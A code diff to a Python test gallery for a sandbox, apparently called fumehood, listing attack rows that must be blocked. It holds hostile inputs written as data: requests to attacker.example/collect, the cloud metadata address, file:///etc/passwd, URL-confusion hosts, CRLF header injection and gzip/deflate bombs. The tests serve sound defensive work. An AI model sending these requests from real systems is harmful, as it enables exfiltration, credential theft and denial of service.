@@ -5,26 +5,19 @@ A row belongs to a class of attack (`group`); rows of one class stand together.
 
 from __future__ import annotations
 
-import json
 from typing import Final
 
 from fumehood.limits import MIB
 from fumehood.testing.gallery.attacks import HARMLESS, STUB, Attack
+from fumehood.testing.gallery.bodies import BODIES, HOST_TIME
+from fumehood.testing.gallery.documents import get, wire
 from fumehood.testing.gallery.providers import BAIT, PROVIDERS
+from fumehood.testing.gallery.redirects import REBINDING, REDIRECTS
+from fumehood.testing.gallery.reflections import REFLECTIONS
+from fumehood.testing.gallery.smuggling import SMUGGLING
 from fumehood.testing.gallery.spellings import SPELLINGS
 
-
-def _get(url: str, **extra: object) -> str:
-    return json.dumps({"url": url, "method": "GET", **extra})
-
-
-def _wire(uri: str, **headers: str) -> str:
-    head = {"method": "GET", "uri": uri, "headers": headers, "version": "HTTP/1.1"}
-    return json.dumps({"req": {"head": head, "body": []}})
-
-
 ENDLESS: Final = "No guest runs longer than its deadline."
-HOST_TIME: Final = "Time in host functions counts against the deadline."
 MEMORY: Final = "No guest takes more memory than its limit."
 HONEST: Final = "A guest cannot hide why it was stopped."
 HANDLES: Final = "No handle or length from a guest makes the host read or write astray."
@@ -191,7 +184,7 @@ _NETWORK: Final = (
         NETWORK,
         "EgressDenied",
         guest="http",
-        input=_get("http://attacker.example/collect"),
+        input=get("http://attacker.example/collect"),
         allowed_hosts=("api.openai.com",),
     ),
     Attack(
@@ -200,7 +193,7 @@ _NETWORK: Final = (
         NETWORK,
         "EgressDenied",
         guest="http",
-        input=_get("https://api.openai.com/v1/models"),
+        input=get("https://api.openai.com/v1/models"),
     ),
     Attack(
         "http_flood",
@@ -208,7 +201,7 @@ _NETWORK: Final = (
         "Requests of one operation are counted.",
         "TooMuch",
         detail={"limit": "http_requests"},
-        input=_get(f"{STUB}models"),
+        input=get(f"{STUB}models"),
         allowed_hosts=("127.0.0.1",),
         limits={"deadline": 5.0},
     ),
@@ -218,7 +211,7 @@ _NETWORK: Final = (
         NETWORK,
         "EgressDenied",
         guest="http",
-        input=_get("http://169.254.169.254/latest/meta-data/"),
+        input=get("http://169.254.169.254/latest/meta-data/"),
         allowed_hosts=("*",),
     ),
     Attack(
@@ -227,7 +220,7 @@ _NETWORK: Final = (
         "A private address needs a grant of its own; `*` is none.",
         "EgressDenied",
         guest="http",
-        input=_get(f"{STUB}models"),
+        input=get(f"{STUB}models"),
         allowed_hosts=("*",),
     ),
     Attack(
@@ -236,7 +229,7 @@ _NETWORK: Final = (
         NETWORK,
         "EgressDenied",
         guest="http",
-        input=_get("file:///etc/passwd"),
+        input=get("file:///etc/passwd"),
         allowed_hosts=("*",),
     ),
     Attack(
@@ -245,7 +238,7 @@ _NETWORK: Final = (
         NETWORK,
         "EgressDenied",
         guest="http",
-        input=_get("http://api.openai.com@attacker.example/"),
+        input=get("http://api.openai.com@attacker.example/"),
         allowed_hosts=("api.openai.com",),
     ),
     Attack(
@@ -254,7 +247,7 @@ _NETWORK: Final = (
         NETWORK,
         "EgressDenied",
         guest="http",
-        input=_get("http://attacker.example\\@api.openai.com/"),
+        input=get("http://attacker.example\\@api.openai.com/"),
         allowed_hosts=("api.openai.com",),
     ),
     Attack(
@@ -263,7 +256,7 @@ _NETWORK: Final = (
         "A guest sets no header that frames a request.",
         "EgressDenied",
         guest="http",
-        input=_get(f"{STUB}models", headers={"Transfer-Encoding": "chunked"}),
+        input=get(f"{STUB}models", headers={"Transfer-Encoding": "chunked"}),
         allowed_hosts=("127.0.0.1",),
     ),
     Attack(
@@ -272,7 +265,7 @@ _NETWORK: Final = (
         "A guest sets no header that frames a request.",
         "GuestError",
         guest="http",
-        input=_get(f"{STUB}models", headers={"X-A": "b\r\nX-Injected: yes"}),
+        input=get(f"{STUB}models", headers={"X-A": "b\r\nX-Injected: yes"}),
         allowed_hosts=("127.0.0.1",),
     ),
     Attack(
@@ -281,7 +274,7 @@ _NETWORK: Final = (
         "A refusal that the ABI reports as a 403 sends nothing.",
         HARMLESS,
         guest="qmt_http",
-        input=_wire("http://attacker.example/collect"),
+        input=wire("http://attacker.example/collect"),
         allowed_hosts=("api.openai.com",),
     ),
     Attack(
@@ -290,7 +283,7 @@ _NETWORK: Final = (
         "A refused stream is an error reply, not an open one.",
         HARMLESS,
         guest="stream_open",
-        input=_wire("http://attacker.example/collect"),
+        input=wire("http://attacker.example/collect"),
         allowed_hosts=("api.openai.com",),
     ),
     Attack(
@@ -299,7 +292,7 @@ _NETWORK: Final = (
         HOST_TIME,
         "Timeout",
         guest="http",
-        input=_get(f"{STUB}behave/drip-50"),
+        input=get(f"{STUB}behave/drip-50"),
         allowed_hosts=("127.0.0.1",),
         detail={"limit": "deadline"},
     ),
@@ -309,7 +302,7 @@ _NETWORK: Final = (
         HOST_TIME,
         "Timeout",
         guest="http",
-        input=_get(f"{STUB}behave/hang"),
+        input=get(f"{STUB}behave/hang"),
         allowed_hosts=("127.0.0.1",),
         detail={"limit": "deadline"},
     ),
@@ -319,7 +312,7 @@ _NETWORK: Final = (
         "Replies are capped.",
         "TooMuch",
         guest="http",
-        input=_get(f"{STUB}behave/endless"),
+        input=get(f"{STUB}behave/endless"),
         allowed_hosts=("127.0.0.1",),
         detail={"limit": "response_bytes"},
         limits={"response_bytes": MIB, "deadline": 5.0},
@@ -330,7 +323,7 @@ _NETWORK: Final = (
         "Replies are capped after decoding.",
         "TooMuch",
         guest="http",
-        input=_get(f"{STUB}behave/gzip-bomb-64"),
+        input=get(f"{STUB}behave/gzip-bomb-64"),
         allowed_hosts=("127.0.0.1",),
         detail={"limit": "response_bytes"},
         limits={"response_bytes": MIB, "deadline": 10.0},
@@ -341,7 +334,7 @@ _NETWORK: Final = (
         "Replies are capped after decoding.",
         "TooMuch",
         guest="http",
-        input=_get(f"{STUB}behave/deflate-bomb-64"),
+        input=get(f"{STUB}behave/deflate-bomb-64"),
         allowed_hosts=("127.0.0.1",),
         detail={"limit": "response_bytes"},
         limits={"response_bytes": MIB, "deadline": 10.0},
@@ -359,6 +352,11 @@ GALLERY: Final[tuple[Attack, ...]] = (
     *_NETWORK,
     *PROVIDERS,
     *SPELLINGS,
+    *REDIRECTS,
+    *REBINDING,
+    *REFLECTIONS,
+    *SMUGGLING,
+    *BODIES,
 )
 
 DEMO: Final = ("endless_loop", "memory_bomb", "host_not_granted")
